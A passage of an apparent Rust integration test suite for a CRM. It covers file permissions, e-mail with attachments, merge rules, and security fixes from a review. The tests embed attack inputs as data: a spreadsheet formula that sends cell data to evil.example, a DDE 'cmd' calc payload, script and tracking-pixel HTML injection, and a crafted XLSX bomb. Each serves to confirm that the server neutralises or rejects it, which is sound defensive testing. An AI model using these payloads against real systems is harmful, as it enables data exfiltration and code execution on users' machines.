        assert_eq!(status, 403);
        let (status, _, _) = outsider.raw("DELETE", &format!("{files}/{}", file["id"]), b"");
        assert_eq!(status, 403);
        lead.ok("DELETE", &format!("{files}/{}", file["id"]), None);
        let (status, _) = lead.call("GET", &format!("{files}/{}", file["id"]), None);
        assert_eq!(status, 404, "{backend}");
        let history = lead.ok("GET", &format!("{path}/history"), None);
        let file_lines: Vec<(&Value, &Value)> = history
            .as_array()
            .unwrap()
            .iter()
            .filter(|h| h["field"] == "file")
            .map(|h| (&h["old_value"], &h["new_value"]))
            .collect();
        assert_eq!(
            file_lines,
            [
                (&Value::Null, &json!("Отчёт.pdf")),
                (&json!("Отчёт.pdf"), &Value::Null)
            ],
            "{backend}: {history}"
        );
        let (status, _) = outsider.call("GET", &path, None);
        assert_eq!(status, 403);
        let (status, _) = outsider.call("PATCH", &path, Some(json!({"status": "todo"})));
        assert_eq!(status, 403);
        assert_eq!(outsider.ok("GET", "/api/v1/tasks", None), json!([]));
        assert_eq!(
            lead.ok("GET", "/api/v1/tasks", None)
                .as_array()
                .unwrap()
                .len(),
            1
        );
        // Deleting the assignee deletes their tasks, and the tasks' files from the disk.
        let (status, _, _) = worker.raw("POST", &format!("{files}?name=a.txt"), b"text");
        assert_eq!(status, 201);
        let files_on_disk = || -> usize {
            std::fs::read_dir(server.dir.join("data/files"))
                .map(|dirs| {
                    dirs.map(|d| std::fs::read_dir(d.unwrap().path()).unwrap().count())
                        .sum()
                })
                .unwrap_or(0)
        };
        assert_eq!(files_on_disk(), 1, "{backend}");
        admin.ok(
            "DELETE",
            &format!("/api/v1/users/{worker_id}?confirm=delete"),
            None,
        );
        assert_eq!(files_on_disk(), 0, "{backend}");
    });
}

/// A real SMTP sink (aiosmtpd) writing what it receives into a Maildir.
struct SmtpSink {
    child: std::process::Child,
    port: u16,
    maildir: std::path::PathBuf,
}

impl SmtpSink {
    fn start() -> SmtpSink {
        let port = common::free_port();
        let maildir =
            std::env::temp_dir().join(format!("kolokol-mail-{}-{port}", std::process::id()));
        let child = Command::new("/usr/bin/python3")
            .args([
                "-m",
                "aiosmtpd",
                "-n",
                "-l",
                &format!("127.0.0.1:{port}"),
                "-c",
                "aiosmtpd.handlers.Mailbox",
            ])
            .arg(&maildir)
            .stdout(std::process::Stdio::null())
            .spawn()
            .expect("/usr/bin/python3 -m aiosmtpd (Debian's python3-aiosmtpd)");
        common::wait_for("the SMTP sink", std::time::Duration::from_secs(10), || {
            std::net::TcpStream::connect(("127.0.0.1", port)).ok()
        });
        SmtpSink {
            child,
            port,
            maildir,
        }
    }

    /// The messages received so far, raw.
    fn messages(&self) -> Vec<String> {
        std::fs::read_dir(self.maildir.join("new"))
            .map(|d| {
                d.map(|f| std::fs::read_to_string(f.unwrap().path()).unwrap())
                    .collect()
            })
            .unwrap_or_default()
    }
}

impl Drop for SmtpSink {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_dir_all(&self.maildir);
    }
}

#[test]
fn e_mail_from_a_card() {
    let sink = SmtpSink::start();
    let port = sink.port.to_string();
    let settings = [
        ("KOLOKOL_SMTP__HOST", "127.0.0.1"),
        ("KOLOKOL_SMTP__PORT", port.as_str()),
        ("KOLOKOL_SMTP__FROM", "Контакт-центр <crm@kolokol.test>"),
    ];
    on_both_backends_with(&settings, |server, backend| {
        let before = sink.messages().len();
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text"}),
        );
        let id = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "Сигма"}})),
        )["id"]
            .clone();
        let (status, _, file) = admin.raw(
            "POST",
            &format!("/api/v1/partners/{id}/files?name=price.txt"),
            "Прайс: 100 ₽".as_bytes(),
        );
        assert_eq!(status, 201);
        let file: Value = serde_json::from_slice(&file).unwrap();
        let path = format!("/api/v1/partners/{id}/email");
        admin.fails(
            "POST",
            &path,
            Some(json!({"subject": "Прайс", "to": ["not an address"], "body": "x"})),
            422,
            "to",
        );
        admin.fails(
            "POST",
            &path,
            Some(json!({"subject": "", "to": ["a@b.ru"], "body": "x"})),
            422,
            "subject",
        );
        admin.fails(
            "POST",
            &path,
            Some(json!({"subject": "s", "to": ["a@b.ru"], "body": "x", "attachments": [999]})),
            422,
            "attachments",
        );
        assert_eq!(
            sink.messages().len(),
            before,
            "{backend}: a refused message went out"
        );
        admin.ok(
            "POST",
            &path,
            Some(json!({
                "subject": "Коммерческое предложение",
                "to": ["Иван Петров <ivan@sigma.test>"],
                "cc": ["boss@sigma.test"],
                "bcc": ["archive@kolokol.test"],
                "body": "Добрый день! Прайс во вложении.",
                "attachments": [file["id"]],
            })),
        );
        let messages = common::wait_for(
            "the message at the sink",
            std::time::Duration::from_secs(10),
            || {
                let m = sink.messages();
                (m.len() > before).then_some(m)
            },
        );
        let mail = messages
            .iter()
            .find(|m| m.contains("boss@sigma.test"))
            .expect("our message");
        assert!(
            mail.contains("ivan@sigma.test") && mail.contains("crm@kolokol.test"),
            "{mail}"
        );
        assert!(
            mail.contains("price.txt"),
            "{backend}: no attachment: {mail}"
        );
        assert!(
            !mail.to_lowercase().contains("\nbcc:"),
            "Bcc must not be in the headers: {mail}"
        );
        let history = admin.ok("GET", &format!("/api/v1/partners/{id}/history"), None);
        let line = history
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["action"] == "email")
            .expect("e-mail in history");
        assert_eq!(
            line["new_value"],
            "Коммерческое предложение → Иван Петров <ivan@sigma.test>"
        );
        create_user(&admin, "reader", json!({}));
        let reader = Api::login(server, "reader", "password-1");
        let (status, _) = reader.call(
            "POST",
            &path,
            Some(json!({"subject": "s", "to": ["a@b.ru"], "body": "x"})),
        );
        assert_eq!(status, 403);
    });
}

// Issue 15: holes a security review found.

/// CRC-32 (IEEE), as a zip part's header carries it.
fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for b in data {
        crc ^= *b as u32;
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A zip of `parts` stored as they are, written byte by byte so the test says exactly
/// what the file holds (the bomb is what no spreadsheet writer would make).
fn stored_zip(parts: &[(&str, &str)]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for (name, data) in parts {
        let (name, data) = (name.as_bytes(), data.as_bytes());
        let offset = out.len() as u32;
        let (crc, len) = (crc32(data), data.len() as u32);
        // version 2.0, no flags, stored, 1980-01-01 00:00
        let common = |b: &mut Vec<u8>| {
            for v in [20u16, 0, 0, 0, 0x21] {
                b.extend(v.to_le_bytes());
            }
            b.extend(crc.to_le_bytes());
            b.extend(len.to_le_bytes());
            b.extend(len.to_le_bytes());
            b.extend((name.len() as u16).to_le_bytes());
            b.extend(0u16.to_le_bytes());
        };
        out.extend(b"PK\x03\x04");
        common(&mut out);
        out.extend(name);
        out.extend(data);
        central.extend(b"PK\x01\x02");
        central.extend(20u16.to_le_bytes());
        common(&mut central);
        central.extend([0u8; 10]); // comment length, disk, attributes
        central.extend(offset.to_le_bytes());
        central.extend(name);
    }
    let at = out.len() as u32;
    out.extend(&central);
    out.extend(b"PK\x05\x06");
    out.extend([0u8; 4]);
    for _ in 0..2 {
        out.extend((parts.len() as u16).to_le_bytes());
    }
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

/// The XLSX of issue 15: a header at A1 and one cell at XFD1048576, the sheet's last.
fn xlsx_bomb() -> Vec<u8> {
    const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    stored_zip(&[
        (
            "[Content_Types].xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        ),
        (
            "xl/workbook.xml",
            &format!(
                r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            &format!(
                r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            &format!(
                r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>"#
            ),
        ),
    ])
}

#[test]
fn an_xlsx_bomb_is_refused_and_the_server_lives() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Компания", "latin": "title", "kind": "text", "in_table": true}),
        );
        let bomb = xlsx_bomb();
        assert!(bomb.len() < 2048, "{} bytes", bomb.len());
        let (status, _, body) = admin.raw(
            "POST",
            "/api/v1/partners/import?format=xlsx&dry_run=true",
            &bomb,
        );
        let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        assert_eq!(
            (status, v["field"].as_str()),
            (422, Some("file")),
            "{backend}: {v}"
        );
        assert!(
            v["detail"]
                .as_str()
                .unwrap()
                .contains("column XFD is beyond the 256 columns an import reads"),
            "{v}"
        );
        // Alive, and still importing.
        let (status, report) = admin.call(
            "POST",
            "/api/v1/partners/import?format=csv",
            Some(Value::Null),
        );
        assert_eq!(status, 422, "{report}");
        let (status, _, body) = admin.raw(
            "POST",
            "/api/v1/partners/import?format=csv",
            "title\nАльфа\n".as_bytes(),
        );
        assert_eq!(status, 200, "{backend}: {}", String::from_utf8_lossy(&body));
        assert_eq!(
            admin.ok("GET", "/api/v1/partners", None)["rows"][0]["values"]["title"],
            "Альфа"
        );
    });
}

/// Sends the head of a request declaring `declared` body bytes and `sent` of them, then
/// waits for the answer without sending the rest; none within 20 s: `None`.
fn answer_before_the_body(
    server: &Server,
    path: &str,
    headers: &[(String, String)],
    declared: usize,
    sent: usize,
) -> Option<(u16, String)> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", server.http_port)).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(20)))
        .unwrap();
    let mut head = format!(
        "POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {declared}\r\nContent-Type: text/csv\r\n"
    );
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    s.write_all(head.as_bytes()).unwrap();
    let mut body = b"title\n".to_vec();
    body.resize(sent, b'a');
    s.write_all(&body).unwrap();
    let mut raw = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                raw.extend_from_slice(&buf[..n]);
                if let Some(end) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
                    let head = String::from_utf8_lossy(&raw[..end]).into_owned();
                    let status = head.split_whitespace().nth(1)?.parse().ok()?;
                    return Some((status, head));
                }
            }
            Err(_) => return None,
        }
    }
    None
}

#[test]
fn an_import_checks_the_right_before_it_reads_the_body() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Компания", "latin": "title", "kind": "text", "in_table": true}),
        );
        create_user(&admin, "reader", json!({}));
        let reader = Api::login(server, "reader", "password-1");
        // 200 MB declared, 64 KiB sent: the refusal comes while the rest is still unsent.
        let path = "/api/v1/partners/import?format=csv";
        let answer = answer_before_the_body(server, path, &reader.headers, 200 << 20, 64 << 10);
        assert_eq!(
            answer.as_ref().map(|a| a.0),
            Some(403),
            "{backend}: {answer:?}"
        );
        let answer = answer_before_the_body(server, path, &[], 200 << 20, 64 << 10);
        assert_eq!(
            answer.as_ref().map(|a| a.0),
            Some(401),
            "{backend}: {answer:?}"
        );
        // One with the right has the body read.
        create_user(&admin, "op", json!({"contacts": true}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "ops", "members": ["op"], "access": {"title": "edit"}})),
        );
        let op = Api::login(server, "op", "password-1");
        let (status, _, body) = op.raw("POST", path, "title\nАльфа\n".as_bytes());
        let report: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(
            (status, report["imported"].as_u64()),
            (200, Some(1)),
            "{report}"
        );
    });
}

#[test]
fn exports_need_a_right_are_streamed_and_never_run() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Компания", "latin": "title", "kind": "text", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Сотрудников", "latin": "staff", "kind": "number", "in_table": true}),
        );
        create_user(&admin, "reader", json!({"contacts": true}));
        create_user(&admin, "analyst", json!({"reports": true}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "all", "members": ["reader", "analyst"], "access": {"title": "view", "staff": "view"}})),
        );
        let list = admin.ok(
            "POST",
            "/api/v1/lists",
            Some(json!({"name": "L", "items": [{"name": "один", "position": 1}]})),
        );
        // 1,200 cards (three pages of the export), some of them formulas.
        let mut csv = String::from("title;staff\n");
        csv.push_str("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\";-7\n");
        csv.push_str("@SUM(1+1)*cmd|' /C calc'!A0;\n");
        for i in 0..1198 {
            csv.push_str(&format!("Компания {i:04};{i}\n"));
        }
        let (status, _, body) =
            admin.raw("POST", "/api/v1/partners/import?format=csv", csv.as_bytes());
        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
        // Without the reports right: neither the table nor a list as a file.
        let reader = Api::login(server, "reader", "password-1");
        for path in [
            "/api/v1/partners/export?format=csv".to_string(),
            "/api/v1/partners/export?format=xlsx".to_string(),
            format!("/api/v1/lists/{}/export?format=csv", list["id"]),
        ] {
            let (status, _, body) = reader.raw("GET", &path, b"");
            assert_eq!(
                status,
                403,
                "{backend}: {path}: {}",
                String::from_utf8_lossy(&body)
            );
        }
        reader.ok("GET", "/api/v1/partners", None);
        // With it: every row, sent as it is read (chunked, no length announced).
        let analyst = Api::login(server, "analyst", "password-1");
        let (status, head, body) =
            analyst.raw("GET", "/api/v1/partners/export?format=csv&sort=title", b"");
        assert_eq!(status, 200, "{backend}");
        let head = head.to_ascii_lowercase();
        assert!(head.contains("transfer-encoding: chunked"), "{head}");
        assert!(!head.contains("content-length"), "{head}");
        let text = String::from_utf8(body).unwrap();
        let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines.len(), 1201, "{backend}");
        assert_eq!(lines[0], "Компания,Сотрудников");
        // Formulas as text; numbers, negative ones too, as numbers.
        assert_eq!(
            lines[1], "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-7",
            "{backend}"
        );
        assert_eq!(lines[2], "'@SUM(1+1)*cmd|' /C calc'!A0,");
        assert_eq!(lines[3], "Компания 0000,0");
        assert_eq!(lines[1200], "Компания 1197,1197");
        // The partners report's CSV is written the same way.
        let (status, _, body) =
            analyst.raw("GET", "/api/v1/reports/partners?format=csv&sort=title", b"");
        assert_eq!(status, 200);
        let text = String::from_utf8(body).unwrap();
        assert!(text.contains(",\"'=HYPERLINK("), "{backend}: {text:.300}");
        assert!(!text.contains(",\"=HYPERLINK("), "{backend}");
        assert!(text.contains(",'@SUM(1+1)"), "{backend}");
        // An XLSX holds the same rows (built whole).
        let (status, head, xlsx) = analyst.raw("GET", "/api/v1/partners/export?format=xlsx", b"");
        assert_eq!(status, 200);
        assert!(
            head.to_ascii_lowercase().contains("content-length"),
            "{head}"
        );
        let (status, _, body) = admin.raw(
            "POST",
            "/api/v1/partners/import?format=xlsx&dry_run=true",
            &xlsx,
        );
        let report: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(
            (status, report["rows"].as_u64()),
            (200, Some(1200)),
            "{report}"
        );
    });
}

/// [`on_both_backends`], the test also given a way to run SQL on the server's database
/// (to seed what only telephony writes, such as calls).
fn on_both_backends_sql(test: impl Fn(&Server, &str, &dyn Fn(&str))) {
    {
        let server = Server::start(&[], &[]);
        let db = server.dir.join("data/kolokol.db");
        let sql = |statement: &str| {
            let out = Command::new("sqlite3")
                .arg(&db)
                .arg(statement)
                .output()
                .expect("sqlite3 is installed by the README test command");
            assert!(
                out.status.success(),
                "{statement}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        };
        test(&server, "sqlite", &sql);
    }
    let db = PgDatabase::create();
    let url = db.url();
    let server = Server::start(&[], &[("KOLOKOL_DATABASE_URL", &url)]);
    test(&server, "postgres", &|statement| psql(&url, statement));
    drop(server);
}

#[test]
fn a_cards_calls_and_files_follow_its_field_access() {
    on_both_backends_sql(|server, backend, sql| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Компания", "latin": "title", "kind": "text"}),
        );
        create_field(
            &admin,
            json!({"name": "Телефон", "latin": "phone", "kind": "phone"}),
        );
        create_field(
            &admin,
            json!({"name": "Второй", "latin": "phone2", "kind": "phone"}),
        );
        for login in ["clerk", "operator", "stranger"] {
            create_user(&admin, login, json!({"contacts": true}));
        }
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "no main phone", "members": ["clerk"], "access": {"title": "view", "phone2": "view"}})),
        );
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "phones", "members": ["operator"], "access": {"title": "view", "phone": "view", "phone2": "view"}})),
        );
        let card = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "Альфа", "phone": "+7 495 111-22-33", "phone2": "+7 495 999-88-77"}})),
        );
        let id = card["id"].as_i64().unwrap();
        // Two calls from the card's numbers, as telephony records them.
        for (call, from, at) in [
            ("call-main", "+74951112233", 1_700_000_000_000i64),
            ("call-second", "+74959998877", 1_700_000_100_000),
        ] {
            sql(&format!(
                "INSERT INTO calls (id, direction, from_number, to_number, started_ms, answered_ms, ended_ms, answered_by) \
                 VALUES ('{call}', 'inbound', '{from}', '100', {at}, {}, {}, 'operator')",
                at + 1000,
                at + 61_000
            ));
            let linked = admin.ok("GET", &format!("/api/v1/calls/{call}/partner"), None);
            assert_eq!(linked["id"], id, "{backend}");
        }
        let calls = format!("/api/v1/partners/{id}/calls");
        let numbers = |api: &Api| -> Vec<Value> {
            let v = api.ok("GET", &calls, None);
            v["calls"]
                .as_array()
                .unwrap()
                .iter()
                .map(|c| c["number"].clone())
                .collect()
        };
        // Newest first. The clerk sees the second phone, not the main one: not its number.
        assert_eq!(
            numbers(&Api::login(server, "clerk", "password-1")),
            [json!("+74959998877"), Value::Null],
            "{backend}"
        );
        assert_eq!(
            numbers(&Api::login(server, "operator", "password-1")),
            [json!("+74959998877"), json!("+74951112233")]
        );
        assert_eq!(numbers(&admin).len(), 2);
        // A file on the card.
        let (status, _, body) = admin.raw(
            "POST",
            &format!("/api/v1/partners/{id}/files?name=price.txt"),
            b"prices",
        );
        assert_eq!(status, 201);
        let file: Value = serde_json::from_slice(&body).unwrap();
        let files = format!("/api/v1/partners/{id}/files");
        let clerk = Api::login(server, "clerk", "password-1");
        assert_eq!(clerk.ok("GET", &files, None).as_array().unwrap().len(), 1);
        let (status, _, bytes) = clerk.raw("GET", &format!("{files}/{}", file["id"]), b"");
        assert_eq!((status, bytes.as_slice()), (200, b"prices".as_slice()));
        // In no group, a user sees no field of the card, nor what hangs on it.
        let stranger = Api::login(server, "stranger", "password-1");
        for path in [
            calls.clone(),
            files.clone(),
            format!("{files}/{}", file["id"]),
            format!("/api/v1/partners/{id}/history"),
        ] {
            let (status, _, body) = stranger.raw("GET", &path, b"");
            assert_eq!(
                status,
                403,
                "{backend}: {path}: {}",
                String::from_utf8_lossy(&body)
            );
        }
        for (method, path, body) in [
            ("POST", format!("{files}?name=x.txt"), b"x".as_slice()),
            ("DELETE", format!("{files}/{}", file["id"]), b"".as_slice()),
        ] {
            let (status, _, _) = stranger.raw(method, &path, body);
            assert_eq!(status, 403, "{backend}: {method} {path}");
        }
        assert_eq!(clerk.ok("GET", &files, None).as_array().unwrap().len(), 1);
        // The card itself (no fields) and the table stay theirs (SPEC 2.1).
        assert_eq!(
            stranger.ok("GET", &format!("/api/v1/partners/{id}"), None)["values"],
            json!({})
        );
    });
}

#[test]
fn who_did_it_is_the_user_not_a_name() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Компания", "latin": "title", "kind": "text"}),
        );
        let alice_id = create_user(&admin, "alice", json!({"contacts": true, "tasks": true}));
        let mallory_id = create_user(&admin, "mallory", json!({"contacts": true, "tasks": true}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "ops", "members": ["alice", "mallory"], "access": {"title": "edit"}})),
        );
        let alice = Api::login(server, "alice", "password-1");
        let mallory = Api::login(server, "mallory", "password-1");
        let card = alice.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "Альфа"}})),
        );
        let id = card["id"].as_i64().unwrap();
        let task = alice.ok("POST", "/api/v1/tasks", Some(json!({"title": "Счёт"})));
        let task = task["id"].as_i64().unwrap();
        // Mallory takes Alice's name, then acts.
        mallory.ok(
            "PATCH",
            &format!("/api/v1/users/{mallory_id}"),
            Some(json!({"name": "User alice"})),
        );
        mallory.ok(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"title": "Альфа и Ко"}})),
        );
        mallory.ok(
            "POST",
            &format!("/api/v1/tasks/{task}/comments"),
            Some(json!({"body": "<p>Оплачено</p>"})),
        );
        mallory.ok(
            "PATCH",
            &format!("/api/v1/tasks/{task}"),
            Some(json!({"title": "Счёт оплачен"})),
        );
        let (status, _, _) = mallory.raw(
            "POST",
            &format!("/api/v1/partners/{id}/files?name=a.txt"),
            b"a",
        );
        assert_eq!(status, 201);
        // Then Alice renames herself: her lines follow her, Mallory's stay Mallory's.
        alice.ok(
            "PATCH",
            &format!("/api/v1/users/{alice_id}"),
            Some(json!({"name": "Алиса"})),
        );
        let who = |v: &Value| {
            (
                v["user_id"].as_i64(),
                v["user_login"].clone(),
                v["user_name"].clone(),
            )
        };
        let history = admin.ok("GET", &format!("/api/v1/partners/{id}/history"), None);
        let lines = history.as_array().unwrap();
        let by = |action: &str| lines.iter().find(|h| h["action"] == action).unwrap();
        assert_eq!(
            who(by("created")),
            (Some(alice_id), json!("alice"), json!("Алиса")),
            "{backend}: {history}"
        );
        let change = lines
            .iter()
            .find(|h| h["new_value"] == "Альфа и Ко")
            .unwrap();
        assert_eq!(
            who(change),
            (Some(mallory_id), json!("mallory"), json!("User alice")),
            "{backend}"
        );
        assert_eq!(who(by("file")).1, json!("mallory"));
        let files = admin.ok("GET", &format!("/api/v1/partners/{id}/files"), None);
        assert_eq!(
            who(&files[0]),
            (Some(mallory_id), json!("mallory"), json!("User alice"))
        );
        let comments = admin.ok("GET", &format!("/api/v1/tasks/{task}/comments"), None);
        assert_eq!(
            who(&comments[0]).1,
            json!("mallory"),
            "{backend}: {comments}"
        );
        let changes = admin.ok("GET", &format!("/api/v1/tasks/{task}/history"), None);
        let retitled = changes
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["new_value"] == "Счёт оплачен")
            .expect("the title change");
        assert_eq!(who(retitled).0, Some(mallory_id), "{backend}: {changes}");
        // The card dynamics report names the login beside the name.
        let report = admin.ok("GET", "/api/v1/reports/card-dynamics?user=mallory", None);
        assert!(
            report["rows"]
                .as_array()
                .unwrap()
                .iter()
                .all(|r| r[1] == "User alice (mallory)"),
            "{backend}: {report}"
        );
    });
}

#[test]
fn a_merge_loses_no_value_the_merger_cannot_see() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        for (name, latin, kind) in [
            ("Название", "title", "text"),
            ("Телефон", "phone", "phone"),
            ("Секрет", "secret", "text"),
            ("Заметка", "note", "text"),
            ("Сумма", "amount", "number"),
        ] {
            create_field(
                &admin,
                json!({"name": name, "latin": latin, "kind": kind, "in_table": true}),
            );
        }
        create_user(&admin, "op", json!({"contacts": true}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "ops", "members": ["op"], "access": {"title": "edit", "phone": "edit"}})),
        );
        let card = |values: Value| -> i64 {
            admin.ok(
                "POST",
                "/api/v1/partners",
                Some(json!({ "values": values })),
            )["id"]
                .as_i64()
                .unwrap()
        };
        let a = card(json!({"title": "Альфа", "phone": "+74951234567", "note": "из A"}));
        let b = card(
            json!({"title": "Альфа ООО", "phone": "+74951234567", "secret": "тайна B", "note": "из B", "amount": 10}),
        );
        let c = card(json!({"title": "alfa", "secret": "тайна C", "amount": 20}));
        // The op sees neither secret, note nor amount; they merge all three into A.
        let op = Api::login(server, "op", "password-1");
        let merged = op.ok(
            "POST",
            "/api/v1/partners/merge",
            Some(json!({"survivor": a, "merged": [b, c], "values": {"title": "Альфа ООО"}})),
        );
        assert_eq!(
            merged["values"],
            json!({"title": "Альфа ООО", "phone": "+74951234567"}),
            "{backend}"
        );
        // A's own value stays, its empty fields take the first merged card's.
        let survivor = admin.ok("GET", &format!("/api/v1/partners/{a}"), None);
        assert_eq!(
            (
                &survivor["values"]["note"],
                &survivor["values"]["secret"],
                &survivor["values"]["amount"]
            ),
            (&json!("из A"), &json!("тайна B"), &json!(10)),
            "{backend}: {survivor}"
        );
        // Values not kept are in the survivor's history, for those who see the field.
        let history = admin.ok("GET", &format!("/api/v1/partners/{a}/history"), None);
        let kept_aside: Vec<(Value, Value, Value)> = history
            .as_array()
            .unwrap()
            .iter()
            .filter(|h| h["action"] == "merged" && !h["field"].is_null())
            .map(|h| {
                (
                    h["field"].clone(),
                    h["old_value"].clone(),
                    h["new_value"].clone(),
                )
            })
            .collect();
        assert_eq!(kept_aside.len(), 3, "{backend}: {kept_aside:?}");
        for line in [
            (json!("note"), json!("из B"), json!("из A")),
            (json!("secret"), json!("тайна C"), json!("тайна B")),
            (json!("amount"), json!("20"), json!("10")),
        ] {
            assert!(
                kept_aside.contains(&line),
                "{backend}: {line:?} in {kept_aside:?}"
            );
        }
        let theirs = op.ok("GET", &format!("/api/v1/partners/{a}/history"), None);
        assert!(!theirs.to_string().contains("тайна"), "{backend}: {theirs}");
        // The filled value is found by the search box.
        let found = admin.ok(
            "GET",
            &format!("/api/v1/partners?q={}", enc("тайна B")),
            None,
        );
        let ids: Vec<&Value> = found["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| &r["id"])
            .collect();
        assert_eq!(ids, [&json!(a)], "{backend}: {found}");
    });
}

#[test]
fn rich_text_keeps_no_script_and_no_tracking_pixel() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        let pixel = "<img src=\"http://tracker.example/p.gif?who=me\">";
        let script = "<script>fetch('/api/v1/users')</script>";
        let task = admin.ok(
            "POST",
            "/api/v1/tasks",
            Some(
                json!({"title": "Счёт", "description": format!("<p>Оплатить{pixel}{script}</p>")}),
            ),
        );
        assert_eq!(task["description"], "<p>Оплатить</p>", "{backend}: {task}");
        let path = format!("/api/v1/tasks/{}", task["id"]);
        let task = admin.ok(
            "PATCH",
            &path,
            Some(json!({"description": format!("<b onclick=\"steal()\">Срочно</b>{pixel}")})),
        );
        assert_eq!(task["description"], "<b>Срочно</b>", "{backend}");
        let comment = admin.ok(
            "POST",
            &format!("{path}/comments"),
            Some(json!({"body": format!("<p>Готово <a href=\"https://example.com/doc\">счёт</a>{pixel}</p>")})),
        );
        assert_eq!(
            comment["body"],
            "<p>Готово <a href=\"https://example.com/doc\" rel=\"noopener noreferrer\">счёт</a></p>",
            "{backend}"
        );
        let event = admin.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": format!("Звонок{pixel}{script}"), "at": "2026-12-01T10:00:00+03:00"})),
        );
        assert_eq!(event["description"], "Звонок", "{backend}: {event}");
        let stored = admin.ok("GET", &format!("/api/v1/events/{}", event["id"]), None);
        assert_eq!(stored["description"], "Звонок");
        // Plain text stays as written.
        let event = admin.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "A & B, 2 > 1", "at": "2026-12-01T10:00:00+03:00"})),
        );
        assert_eq!(event["description"], "A & B, 2 > 1");
        admin.fails(
            "POST",
            "/api/v1/events",
            Some(json!({"description": script, "at": "2026-12-01T10:00:00+03:00"})),
            422,
            "description",
        );
    });
}

#[test]
fn ones_own_account_language_and_password() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_user(&admin, "plain", json!({"tasks": true}));
        let user = Api::login(server, "plain", "password-1");
        // The same user in another browser.
        let elsewhere = Api::login(server, "plain", "password-1");
        let me = user.ok("GET", "/api/v1/me", None);
        assert_eq!(
            (&me["login"], &me["name"], &me["admin"], &me["extension"]),
            (
                &json!("plain"),
                &json!("User plain"),
                &json!(false),
                &Value::Null
            ),
            "{backend}: {me}"
        );
        assert_eq!(
            me["rights"],
            json!({"admin": false, "contacts": false, "tasks": true, "reports": false}),
            "{backend}"
        );
        assert_eq!(me["settings"], json!({"language": null}), "{backend}");
        assert_eq!(
            Api::admin(server).ok("GET", "/api/v1/me", None)["admin"],
            true
        );

